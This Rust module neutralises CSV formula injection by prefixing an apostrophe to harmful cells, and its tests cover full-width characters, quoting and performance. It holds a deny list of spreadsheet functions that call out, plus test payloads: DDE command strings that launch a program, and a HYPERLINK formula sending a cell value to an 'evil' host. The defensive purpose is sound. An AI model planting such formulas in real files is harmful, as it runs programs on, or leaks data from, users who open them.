//! Cells of tables, and lines of texts that a spreadsheet would take for formulas.
//!
//! An apostrophe is put before each that is harmful; everything else stays letter by letter.

use crate::blanks::is_nothing;

/// Which cells are harmful.
#[derive(Clone, Copy)]
pub(crate) enum Harm {
    /// Those that would be computed.
    Computed,
    /// Those that would be computed and reach for something: a function, a program, another file.
    Calls,
}

/// Puts an apostrophe before each cell that is harmful as it begins here, in quotes or not; says how many there were.
///
/// A cell begins after comma, semicolon, tab or a new line outside of quotes, whichever of them divides this table:
/// Excel decides that by the region of whoever opens it, or by what a first line `sep=` names. Whether something is in quotes
/// is read in both ways that there are: a quote inside a cell that has not begun with one is a letter for some programs,
/// and begins something quoted for others.
pub(crate) fn neutralise(letters: &str, harm: Harm) -> (String, usize) {
    let named = divider_of(letters);
    let divides = |letter: char| matches!(letter, ',' | ';' | '\t' | '\n' | '\r') || Some(letter) == named;
    let mut out = String::with_capacity(letters.len() + 16);
    let mut ahead = Ahead::new(letters);
    // As those read it for whom only a cell's first letter opens quotes, and as those for whom each quote does.
    let (mut strict, mut loose) = (false, false);
    let (mut changed, mut begins) = (0, true);
    let mut all = letters.char_indices().peekable();
    while let Some((at, letter)) = all.next() {
        if letter == '"' {
            out.push(letter);
            loose = !loose;
            if !strict {
                strict = begins;
            } else if all.next_if(|(_, next)| *next == '"').is_some() {
                out.push('"');
                loose = !loose;
            } else {
                strict = false;
            }
            // What a cell is begins after its quotes.
            continue;
        }
        let is_harmful = begins
            && is_computed(letters, at, strict, named)
            && match harm {
                Harm::Computed => true,
                Harm::Calls => ahead.is_call(at, strict),
            };
        if is_harmful {
            out.push('\'');
            changed += 1;
        }
        begins = divides(letter) && !(strict && loose);
        out.push(letter);
    }
    (out, changed)
}

/// The letter that a first line names as what divides the cells, for Excel.
fn divider_of(letters: &str) -> Option<char> {
    let line = letters.trim_start_matches('\u{feff}').lines().next()?;
    let named = line.get(..4).filter(|begin| begin.eq_ignore_ascii_case("sep="))?;
    line[named.len()..].chars().next()
}

/// Whether a letter is something that is looked for, after those before it.
type Mark = fn(&str, char) -> bool;

/// What is looked for behind a cell's begin: its ends, and what makes a call of it.
const MARKS: [Mark; 7] = [
    |_, letter| letter == '"',
    |_, letter| matches!(letter, '\n' | '\r'),
    |_, letter| matches!(letter, '(' | '|' | '!' | '（' | '｜' | '！'),
    |_, letter| matches!(letter, '|' | '｜'),
    |_, letter| matches!(letter, '!' | '！'),
    |before, letter| matches!(letter, '(' | '（') && reaches(before),
    |before, letter| matches!(letter, '!' | '！') && before.ends_with(['\'', '＇', ']', '］']),
];
const QUOTE: usize = 0;
const LINE: usize = 1;
const REACH: usize = 2;
const BAR: usize = 3;
const MARK: usize = 4;
const FAR_CALL: usize = 5;
const FAR_SHEET: usize = 6;

/// Functions of spreadsheets that load something, send something or run something, as far as they are written in a text.
const FAR: &[&str] = &[
    "HYPERLINK",
    "WEBSERVICE",
    "IMAGE",
    "CALL",
    "REGISTER",
    "REGISTER.ID",
    "EXEC",
    "EXECUTE",
    "RUN",
    "RTD",
    "DDE",
    "INDIRECT",
    "SQL.REQUEST",
    "IMPORTXML",
    "IMPORTDATA",
    "IMPORTHTML",
    "IMPORTFEED",
    "IMPORTRANGE",
    "FILES",
    "FOPEN",
    "STOCKHISTORY",
];

/// Whether the name of such a function stands at the end, in letters of any width.
fn reaches(before: &str) -> bool {
    // No name is longer.
    let letters = before.trim_end_matches(is_before).chars().rev().take(16);
    let letters = letters.map(|letter| match letter {
        '！'..='～' => u32::from(letter).checked_sub(0xfee0).and_then(char::from_u32).unwrap_or(letter),
        letter => letter,
    });
    let name: Vec<char> = letters
        .take_while(|letter| letter.is_alphanumeric() || *letter == '.')
        .map(|letter| letter.to_ascii_uppercase())
        .collect();
    FAR.iter().any(|far| far.chars().rev().eq(name.iter().copied()))
}

/// What comes next of each mark, for places that are asked for in their order: each letter is looked at once for a mark,
/// however many cells begin before it.
struct Ahead<'t> {
    letters: &'t str,
    next: [Option<usize>; MARKS.len()],
}

impl<'t> Ahead<'t> {
    fn new(letters: &'t str) -> Self {
        Self { letters, next: [None; MARKS.len()] }
    }

    /// Where a mark is next, from here on; the end if it comes no more.
    fn next(&mut self, mark: usize, at: usize) -> usize {
        if let Some(next) = self.next[mark].filter(|next| *next >= at) {
            return next;
        }
        let letters = self.letters;
        let is_it = |(behind, letter): &(usize, char)| MARKS[mark](&letters[..at + behind], *letter);
        let found = letters[at..].char_indices().find(is_it);
        let next = found.map_or(self.letters.len(), |(behind, _)| at + behind);
        self.next[mark] = Some(next);
        next
    }

    /// Whether a cell that begins here and would be computed reaches for something: a function, a program, another file. A sum
    /// of numbers does not, nor a heading's line of signs, a list's dash before a word, or somebody's name after an `@`. Programs
    /// take a formula with a blank behind its sign as well.
    fn is_call(&mut self, at: usize, quoted: bool) -> bool {
        let end = self.next(if quoted { QUOTE } else { LINE }, at);
        let line = self.letters[at..end].trim_start_matches(is_before);
        let is_heading =
            |formula: &str| formula.starts_with(|letter: char| letter.is_whitespace() || letter == '=');
        if line.strip_prefix(['=', '＝']).is_some_and(|formula| !is_heading(formula)) {
            return self.next(REACH, at) < end;
        }
        // Lists, patches and programs begin lines with a sign, and have names and brackets behind it: those call nothing by
        // a name of their own making.
        let is_far = self.next(FAR_CALL, at) < end || self.next(FAR_SHEET, at) < end;
        is_far || self.next(BAR, at) < end && self.next(MARK, at) < end
    }
}

/// What programs pass over before a cell's first letter; Excel's Japanese edition takes full-width blanks for that as well.
fn is_before(letter: char) -> bool {
    letter != '\n' && letter != '\r' && is_nothing(letter)
}

/// What follows a number's power of ten, which Excel writes for large ones: `-1.2E+15`.
fn without_exponent(behind: &str) -> &str {
    let Some(power) = behind.strip_prefix(['E', 'e']) else { return behind };
    let digits = power.strip_prefix(['+', '-']).unwrap_or(power);
    let end = digits.trim_start_matches(|letter: char| letter.is_ascii_digit());
    if (1..=3).contains(&(digits.len() - end.len())) { end } else { behind }
}

/// Whether a cell that begins here would be computed. Numbers and dashes are not. No more of it is looked at than is one, and
/// nothing beyond the letter that a first line names as what divides.
fn is_computed(letters: &str, at: usize, quoted: bool, named: Option<char>) -> bool {
    let rest = &letters[at..];
    let is_own = |letter: char| Some(letter) != named;
    let is_blank = |letter: char| is_before(letter) && letter != '\t' && is_own(letter);
    if quoted && rest.trim_start_matches(is_blank).starts_with('\t') {
        return true;
    }
    let opens = quoted && letters[..at].ends_with('"');
    let cell = match opens {
        true => rest.trim_start_matches(|letter| is_nothing(letter) && is_own(letter)),
        false => rest.trim_start_matches(is_blank),
    };
    let is_sign = |letter: char| matches!(letter, '+' | '-' | '＋' | '－') && is_own(letter);
    if !cell.starts_with(|letter| is_sign(letter) || matches!(letter, '=' | '@' | '＝' | '＠')) {
        return false;
    }
    let ends: &[char] = if quoted { &['"'] } else { &[',', ';', '\t', '\n', '\r'] };
    let is_end = |rest: &str| {
        rest.is_empty() || rest.starts_with(ends) || named.is_some_and(|one| rest.starts_with(one))
    };
    let amount = cell.trim_start_matches(is_sign);
    // A yen sign is a backslash in Windows' Japanese.
    let is_yen = |letter: char| matches!(letter, '¥' | '￥' | '\\') && is_own(letter);
    let number = amount.strip_prefix(is_yen).unwrap_or(amount);
    let part = |letter: char| {
        is_own(letter) && (letter.is_ascii_digit() || letter == '.' || quoted && letter == ',')
    };
    let behind = number.trim_start_matches(part);
    let has_digit = number[..number.len() - behind.len()].contains(|letter: char| letter.is_ascii_digit());
    let behind = without_exponent(behind);
    let unit = behind.trim_start_matches(|letter| matches!(letter, '%' | '％' | '円') && is_own(letter));
    // Signs and units of a number are few.
    let is_short = cell.len() - number.len() + behind.len() - unit.len() <= 6;
    let is_number = has_digit && is_short && is_end(unit.trim_start_matches(is_blank));
    let is_dash = is_end(
        cell.trim_start_matches(|letter| matches!(letter, '-' | '－') && is_own(letter))
            .trim_start_matches(is_blank),
    );
    !is_number && !is_dash
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;
    use crate::effort;

    #[test]
    fn cells_that_would_be_computed_are_not_and_numbers_stay_numbers() {
        let cases = [
            ("=1+1,2", "'=1+1,2"),
            ("a,=cmd|' /C calc'!A0", "a,'=cmd|' /C calc'!A0"),
            ("\"=HYPERLINK(\"\"http://x\"\")\",b", "\"'=HYPERLINK(\"\"http://x\"\")\",b"),
            ("-5,+3.5,-1200円,-5%,-,--", "-5,+3.5,-1200円,-5%,-,--"),
            ("\"-1,234\"", "\"-1,234\""),
            (
                "-¥500,-\\500,－￥500,\"-¥1,200\",-1.2E+15,+3e-7",
                "-¥500,-\\500,－￥500,\"-¥1,200\",-1.2E+15,+3e-7",
            ),
            ("-\\\\a,-¥,-1E,-1E+A1,-1E1234,-E5", "'-\\\\a,'-¥,'-1E,'-1E+A1,'-1E1234,'-E5"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("＝1+1", "'＝1+1"),
            ("x; =1+1", "x;' =1+1"),
            ("+81-76-220-2111", "'+81-76-220-2111"),
            ("\"\t=1\"", "\"'\t=1\""),
            ("名前,所属\r\n-A1,b\r\n", "名前,所属\r\n'-A1,b\r\n"),
            ("\"a\n=1\",b", "\"a\n=1\",b"),
            ("5\" nail,1\n=1+1,2", "5\" nail,1\n'=1+1,2"),
            ("a\"\n=1+1,2", "a\"\n'=1+1,2"),
            ("5\" nail,=1+1", "5\" nail,'=1+1"),
            ("\"a\"\"\n\",\n=1", "\"a\"\"\n\",\n'=1"),
            ("sep=^\na^=1+1", "sep=^\na^'=1+1"),
            ("SEP=|\nx|=1+1", "SEP=|\nx|'=1+1"),
            ("\"\n=1+1\",b", "\"'\n=1+1\",b"),
            ("\"\r\n住所\",b", "\"\r\n住所\",b"),
            ("a,\u{200b}=1+1", "a,'\u{200b}=1+1"),
        ];
        for (given, wanted) in cases {
            assert_eq!(neutralise(given, Harm::Computed).0, wanted);
        }
    }

    #[test]
    fn text_that_is_saved_as_a_table_reaches_for_nothing_and_prose_stays_as_it_is() {
        let harmful = [
            "=cmd|' /C calc'!A0",
            "名前\n=HYPERLINK(\"http://x\",1)",
            "a,@HYPERLINK(\"http://x\")",
            "= WEBSERVICE(\"http://x\")",
            "a\t+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "＝ＷＥＢＳＥＲＶＩＣＥ（1）",
            "='http://x/[a.xls]b'!A1",
            "+(1)+IMAGE(A1)",
            "\"=IMPORTXML(\"\"http://x\"\")\"",
            "+ cmd|'/c calc'!A0",
            "+\u{a0}cmd|'/c calc'!A0",
            "+ \tcmd|x!A0",
            "- HYPERLINK(\"http://evil/\"&B1,\"x\")",
            "+\u{3000}WEBSERVICE (\"http://x\")",
            "＋　ＷＥＢＳＥＲＶＩＣＥ（1）",
            "@ SUM(cmd|'/c calc'!A0)",
            "- 1+hyperlink(\"http://evil/\")",
            "+ 'http://x/[a.xls]b'!A1",
        ];
        for text in harmful {
            assert_eq!(neutralise(text, Harm::Calls).1, 1, "{text}");
        }
        let prose = [
            "- 橋の点検 (国道)\n- 完了!",
            "=====\n見出し\n=====",
            "-1200円 (税込)",
            "@hanako よろしく (至急)",
            "+81-76-220-2111",
            "a = f(x)\n  if (a) {}",
            "=1+1",
            "-v, --verbose",
            "- f(x) を使う\n- 点検（国道）\n- 画像(image)を貼る!",
            "- `open(file)`: 開く\n- run it (twice)",
            "-print(\"a\")\n+print(\"b\")\n@app.route(\"/\")\n@Test(expected=E.class)\n@import url(\"a.css\")",
            "= 見出し (a)\n== 節 (b) ==",
            "a,@SUM(1)",
        ];
        for text in prose {
            assert_eq!(neutralise(text, Harm::Calls).1, 0, "{text}");
        }
    }

    #[test]
    fn a_megabyte_of_cells_takes_time_that_follows_from_its_size() {
        // What grows with the square took 21 s and more, what does not half a second, where nothing is optimised and nothing else runs.
        let time = |table: &str| {
            for harm in [Harm::Computed, Harm::Calls] {
                let taken = effort::of(|| drop(neutralise(table, harm)));
                assert!(taken < Duration::from_secs(5), "{:?}: {taken:?}", table.get(..12));
            }
        };
        for divider in [' ', '-', '+', '\u{3000}', '%'] {
            for piece in [" ", "-", "+", "-1", "\u{3000}", "-1%"] {
                time(&format!("sep={divider}\n{}", piece.repeat((1 << 16) / piece.len())));
            }
        }
        for piece in [
            "=,",
            "+,",
            "-1,",
            "=a,\"",
            "\"=,",
            "x\"y,\"=,",
            "+a,|",
            "@(,",
            "-,",
            "- ,",
            ",\u{feff}",
            "=;\"\"",
        ] {
            time(&piece.repeat((1 << 20) / piece.len()));
        }
    }
}
